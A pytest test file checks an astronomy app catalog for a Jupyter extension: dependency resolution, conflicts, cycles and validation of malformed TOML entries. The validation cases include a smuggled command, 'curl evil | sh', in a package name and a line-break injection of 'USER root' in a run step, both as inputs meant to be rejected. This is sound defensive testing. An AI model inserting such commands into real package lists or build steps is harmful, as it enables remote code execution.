"""The app catalog: shipped entries, admin folders, broken files, resolving a choice."""

from __future__ import annotations

import logging
from pathlib import Path

import pytest

from jupyter_stardock.core.catalog import App, Catalog, default_catalog_dirs
from jupyter_stardock.errors import CatalogError

from .conftest import AppWriter

PAPER_SET = {
    "astropy",
    "iraf",
    "pyraf",
    "ds9",
    "sextractor",
    "swarp",
    "montage",
    "topcat",
    "r",
    "gdl",
    "scamp",
    "psfex",
}


@pytest.fixture(scope="module")
def shipped() -> Catalog:
    return Catalog.load(default_catalog_dirs())


def test_the_shipped_catalog_loads_cleanly(shipped: Catalog) -> None:
    assert shipped.problems == []
    assert set(shipped.apps) >= PAPER_SET


def test_shipped_entries_are_complete(shipped: Catalog) -> None:
    for app in shipped.apps.values():
        assert app.title and app.description and app.category and app.smoke, app.id
        assert app.apt or app.run, app.id
        assert app.source is not None and app.source.name == f"{app.id}.toml"


def test_gui_apps_are_checked_headless(shipped: Catalog) -> None:
    for app_id in ("ds9", "topcat"):
        app = shipped.apps[app_id]
        assert "xvfb-run" in app.smoke
        assert {"xvfb", "xauth"} <= set(app.apt)


def test_python_libraries_are_checked_from_the_kernels_python(shipped: Catalog) -> None:
    assert shipped.apps["astropy"].smoke.startswith('"$STARDOCK_PYTHON" -c')
    for module in ("astropy", "photutils", "reproject", "ccdproc"):
        assert module in shipped.apps["astropy"].smoke
    assert "pyraf" in shipped.apps["pyraf"].smoke


def test_python_apps_are_also_checked_in_a_kernel(shipped: Catalog) -> None:
    python_apps = {
        app.id for app in shipped.apps.values() if any(p.startswith("python3-") for p in app.apt)
    }
    assert python_apps >= {"astropy", "pyraf"}
    for app_id in python_apps:
        assert shipped.apps[app_id].smoke_kernel, f"{app_id} has no smoke_kernel"
    astropy = shipped.apps["astropy"]
    assert astropy.smoke_kernel is not None
    for needed in ("%matplotlib inline", "matplotlib.pyplot", "fits.open", "savefig", "scipy"):
        assert needed in astropy.smoke_kernel, needed
    assert astropy.smoke_kernel_displays == ("image/png",)
    assert astropy.to_json()["smoke_kernel_displays"] == ["image/png"]
    assert "pyraf" in (shipped.apps["pyraf"].smoke_kernel or "")


def test_kernel_checks_keep_their_lines(write_app: AppWriter) -> None:
    code = "%matplotlib inline\nimport numpy\nif True:\n    print(numpy.pi)\n"
    path = write_app("plots", smoke_kernel=code, smoke_kernel_displays=["image/png"])
    app = Catalog.load([path.parent]).apps["plots"]
    assert app.smoke_kernel == code.rstrip("\n")
    assert app.smoke_kernel_displays == ("image/png",)
    plain = Catalog.load([write_app("plain").parent]).apps["plain"]
    assert plain.smoke_kernel is None and plain.smoke_kernel_displays == ()


def test_iraf_gets_the_variables_its_cl_needs(shipped: Catalog) -> None:
    assert dict(shipped.apps["iraf"].env) == {"TERM": "xterm", "USER": "stardock"}
    assert shipped.apps["iraf"].to_json()["env"] == {"TERM": "xterm", "USER": "stardock"}


def test_pyraf_needs_iraf(shipped: Catalog) -> None:
    assert [a.id for a in shipped.resolve(["pyraf"])] == ["iraf", "pyraf"]
    assert shipped.added_dependencies(["pyraf"]) == {"iraf": ("pyraf",)}
    assert shipped.added_dependencies(["pyraf", "iraf"]) == {}


def test_the_whole_shipped_catalog_resolves(shipped: Catalog) -> None:
    ids = [a.id for a in shipped.resolve(sorted(shipped.apps))]
    assert sorted(ids) == sorted(shipped.apps)
    assert ids.index("iraf") < ids.index("pyraf")


def test_the_order_does_not_depend_on_the_choice_order(shipped: Catalog) -> None:
    a = shipped.resolve(["topcat", "astropy", "pyraf", "astropy"])
    b = shipped.resolve(["pyraf", "topcat", "astropy"])
    assert a == b
    assert [x.id for x in a] == ["astropy", "iraf", "pyraf", "topcat"]


def test_app_json_for_the_panel(shipped: Catalog) -> None:
    listing = shipped.to_json()
    assert listing[0]["id"] == "astropy"
    assert set(listing[0]) >= {"id", "title", "description", "category", "requires", "conflicts"}


# --- resolving ---------------------------------------------------------------------


def test_unknown_app_names_the_id_and_suggests(write_app: AppWriter) -> None:
    write_app("astropy")
    catalog = Catalog.load([write_app("ds9").parent])
    with pytest.raises(
        CatalogError, match=r"no app called 'astorpy'.*Did you mean 'astropy'\?"
    ) as e:
        catalog.resolve(["ds9", "astorpy"])
    assert e.value.item == "astorpy"
    with pytest.raises(CatalogError, match=r"no app called 'zzz' in the catalog\.$"):
        catalog.resolve(["zzz"])


def test_conflicting_apps_are_named(write_app: AppWriter) -> None:
    write_app("alpha", conflicts=["beta"])
    write_app("beta")
    folder = write_app("gamma", requires=["beta"]).parent
    catalog = Catalog.load([folder])
    assert catalog.problems == []
    with pytest.raises(CatalogError) as info:
        catalog.resolve(["beta", "alpha"])
    assert str(info.value) == (
        "ALPHA (alpha) and BETA (beta) cannot be installed together. Choose one of them."
    )
    assert info.value.item == "alpha, beta"
    # A conflict brought in by a dependency says where it came from.
    with pytest.raises(CatalogError, match=r"BETA \(beta\) is needed by GAMMA \(gamma\)"):
        catalog.resolve(["gamma", "alpha"])


def test_dependencies_come_first_whatever_their_order(write_app: AppWriter) -> None:
    write_app("base-lib", order=90)
    write_app("tool", order=1, requires=["base-lib"])
    folder = write_app("other", order=5).parent
    catalog = Catalog.load([folder])
    # "other" (order 5) is ready first; "tool" (order 1) must wait for "base-lib".
    assert [a.id for a in catalog.resolve(["other", "tool"])] == ["other", "base-lib", "tool"]
    assert catalog.added_dependencies(["tool"]) == {"base-lib": ("tool",)}


def test_ties_in_order_are_broken_by_id(write_app: AppWriter) -> None:
    for name in ("zeta", "eta", "beta"):
        folder = write_app(name, order=3).parent
    catalog = Catalog.load([folder])
    assert [a.id for a in catalog.resolve(["zeta", "beta", "eta"])] == ["beta", "eta", "zeta"]


def test_non_text_app_ids_are_refused(write_app: AppWriter) -> None:
    catalog = Catalog.load([write_app("alpha").parent])
    with pytest.raises(CatalogError, match="App ids are text"):
        catalog.resolve([3])  # type: ignore[list-item]


# --- admin folders and broken entries -----------------------------------------------


def test_later_folders_override_earlier_ids(write_app: AppWriter) -> None:
    shipped = write_app("astropy", title="Shipped").parent
    admin = write_app("astropy", folder="admin", title="Site build").parent
    write_app("extra", folder="admin")
    catalog = Catalog.load([shipped, admin])
    assert catalog.apps["astropy"].title == "Site build"
    assert set(catalog.apps) == {"astropy", "extra"}


def test_a_dependency_cycle_is_reported_with_its_apps(
    write_app: AppWriter, caplog: pytest.LogCaptureFixture
) -> None:
    write_app("ok")
    write_app("aa", folder="admin", requires=["bb"])
    write_app("bb", folder="admin", requires=["cc"])
    write_app("cc", folder="admin", requires=["aa"])
    admin = write_app("dd", folder="admin", requires=["aa"]).parent
    with caplog.at_level(logging.WARNING, logger="jupyter_stardock.core.catalog"):
        catalog = Catalog.load([admin.parent / "apps", admin])
    assert set(catalog.apps) == {"ok"}
    cycle = [p for p in catalog.problems if "cycle" in p.reason and p.app in {"aa", "bb", "cc"}]
    assert {p.app for p in cycle} == {"aa", "bb", "cc"}
    assert "aa -> bb -> cc -> aa" in cycle[0].reason
    assert cycle[0].file == admin / "aa.toml"
    dd = next(p for p in catalog.problems if p.app == "dd")
    assert "needs 'aa', which is unavailable" in dd.reason
    assert "aa -> bb -> cc -> aa" in caplog.text
    with pytest.raises(CatalogError, match=r"unavailable on this server.*aa -> bb -> cc -> aa"):
        catalog.resolve(["ok", "bb"])


def test_a_self_dependency_is_a_cycle(write_app: AppWriter) -> None:
    catalog = Catalog.load([write_app("loop", requires=["loop"]).parent])
    assert catalog.apps == {}
    assert "loop -> loop" in catalog.problems[0].reason


def test_a_missing_dependency_is_reported(write_app: AppWriter) -> None:
    catalog = Catalog.load([write_app("needy", requires=["ghost"]).parent])
    assert catalog.apps == {}
    assert "needs 'ghost', which is unavailable: it is not in the catalog." in str(
        catalog.problems[0]
    )


def test_an_app_whose_dependencies_conflict_is_left_out(write_app: AppWriter) -> None:
    write_app("left", conflicts=["right"])
    write_app("right")
    catalog = Catalog.load([write_app("both", requires=["left", "right"]).parent])
    assert set(catalog.apps) == {"left", "right"}
    assert "cannot be installed together" in catalog.unavailable["both"]


@pytest.mark.parametrize(
    ("fields", "reason"),
    [
        ({"smoke": None}, "lacks the field(s) smoke"),
        ({"requirez": ["x"]}, "unknown field(s) requirez"),
        ({"order": "first"}, "field order must be a int"),
        ({"order": True}, "field order must be a int"),
        ({"apt": "iraf"}, "field apt must be a list"),
        ({"apt": ["iraf; curl evil | sh"]}, "is not a Debian package name"),
        ({"apt": [3]}, "apt must list package names as strings"),
        ({"id": "other"}, "differs from the file name"),
        ({"id": "Bad_Id", "file": "Bad_Id"}, "is not an app id"),
        ({"title": "Two\nlines"}, "title contains a line break"),
        ({"description": "x" * 301}, "description is longer than 300"),
        ({"title": "  "}, "title is empty"),
        ({"run": ["make \\"]}, "run step 1 ends with a backslash"),
        ({"run": ["make\nUSER root"]}, "run step 1 contains a line break"),
        ({"run": [1]}, "run step 1 is not text"),
        ({"requires": ["Not An Id"]}, "requires holds 'Not An Id'"),
        ({"conflicts": ["broken"]}, "conflicts with itself"),
        ({"env": {"TERM": "xterm vt100"}}, "env value of TERM must be one word"),
        ({"env": {"TERM": "$HOME"}}, "env value of TERM must be one word"),
        ({"env": {"TERM": 1}}, "env value of TERM must be one word"),
        ({"env": {"1X": "a"}}, "env name '1X' is not a variable name"),
        ({"env": "TERM=xterm"}, "field env must be a dict"),
        ({"smoke_kernel": "import x\n\tx.run()"}, "smoke_kernel line 2 contains a tab"),
        ({"smoke_kernel": " \n "}, "smoke_kernel is empty"),
        ({"smoke_kernel": "x = 1\n" * 1000}, "smoke_kernel is longer than 4000"),
        ({"smoke_kernel": ["import x"]}, "field smoke_kernel must be a str"),
        (
            {"smoke_kernel": "import x", "smoke_kernel_displays": ["a png"]},
            "smoke_kernel_displays holds 'a png', which is not a MIME type",
        ),
        ({"smoke_kernel_displays": ["image/png"]}, "smoke_kernel_displays needs a smoke_kernel"),
    ],
)
def test_a_broken_entry_is_reported_and_skipped(
    write_app: AppWriter, fields: dict[str, object], reason: str
) -> None:
    write_app("good")
    path = write_app("broken", **fields)
    catalog = Catalog.load([path.parent])
    assert set(catalog.apps) == {"good"}
    [problem] = catalog.problems
    assert problem.file == path
    assert reason in problem.reason, problem.reason


def test_unreadable_files_and_missing_folders_never_raise(tmp_path: Path) -> None:
    folder = tmp_path / "apps"
    folder.mkdir()
    (folder / "bad.toml").write_text("id = [unclosed")
    (folder / "latin1.toml").write_bytes(b"title = '\xe9'")
    (folder / "README.md").write_text("not an entry")
    catalog = Catalog.load([folder, tmp_path / "nowhere"])
    reasons = {p.file.name: p.reason for p in catalog.problems}
    assert "is not valid TOML" in reasons["bad.toml"]
    assert "cannot be read" in reasons["latin1.toml"]
    assert "does not exist" in reasons["nowhere"]
    assert catalog.apps == {}


def test_a_catalog_can_be_built_from_apps() -> None:
    app = App(id="one", title="One", description="d", category="c", smoke="true")
    catalog = Catalog([app])
    assert catalog.resolve(["one"]) == [app]
    assert app.label == "One (one)"
